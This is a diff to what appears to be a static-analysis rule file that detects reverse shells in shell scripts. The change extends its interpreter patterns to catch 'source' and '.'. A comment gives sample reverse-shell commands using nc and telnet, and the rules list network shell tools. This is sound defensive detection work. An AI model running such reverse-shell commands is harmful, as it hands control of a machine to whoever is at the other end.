@@ -30,7 +30,7 @@
 ; nc h 4444 | sh, telnet h 23 | /bin/bash | telnet h 24
 ((pipeline (_) @src [(command) (redirected_statement) (subshell (command) @sink) (compound_statement (command) @sink)] @sink) @finding
  (#contains-call? @src "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|telnet|socat|openssl")
- (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript) -")
+ (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript) -")
  (#set! id "sh-network-shell")
  (#set! severity "high")
  (#set! message "runs what comes from the network in a shell (a reverse shell): whoever is at the other end controls the machine"))
@@ -41,7 +41,7 @@
    [(command) (redirected_statement) (redirected_statement body: (pipeline (command) @sink))] @sink
    (_) @dst) @finding
  (#contains-call? @dst "nc|ncat|netcat|nc\\.traditional|nc\\.openbsd|pwncat|cryptcat|telnet|socat|openssl")
- (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript) -")
+ (#resolves-to? @sink "((ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript) -")
  (#set! id "sh-network-shell")
  (#set! severity "high")
  (#set! message "sends a shell's output to the network (a reverse shell): whoever is at the other end controls the machine"))
@@ -50,7 +50,7 @@
 ((redirected_statement
    body: (command) @sh
    redirect: (file_redirect destination: (_) @dst)) @finding
- (#resolves-to? @sh "(ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript")
+ (#resolves-to? @sh "(ba|da|z|k|mk|c|tc|a|y|po|pdk)?sh|fish|source|\\.|python[0-9.]*|pypy[0-9.]*|perl[0-9.]*|ruby[0-9.]*|node|nodejs|php[0-9.]*|lua[0-9.]*|luajit|tclsh[0-9.]*|Rscript")
  (#value-match? @dst "^/dev/(tcp|udp)/")
  (#set! id "sh-network-shell")
  (#set! severity "high")
